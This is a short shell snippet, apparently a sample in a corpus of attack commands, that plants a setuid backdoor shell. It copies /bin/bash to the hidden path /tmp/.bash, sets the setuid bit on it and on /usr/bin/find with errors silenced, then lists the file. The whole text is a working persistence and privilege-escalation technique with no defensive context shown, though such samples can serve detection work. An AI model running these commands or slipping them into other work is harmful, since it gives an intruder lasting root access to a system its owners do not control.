# corpus: copying bash and setting the setuid bit (chmod +s / u+s) for a privileged backdoor shell
cp /bin/bash /tmp/.bash
chmod +s /tmp/.bash
chmod u+s /usr/bin/find 2>/dev/null
ls -la /tmp/.bash
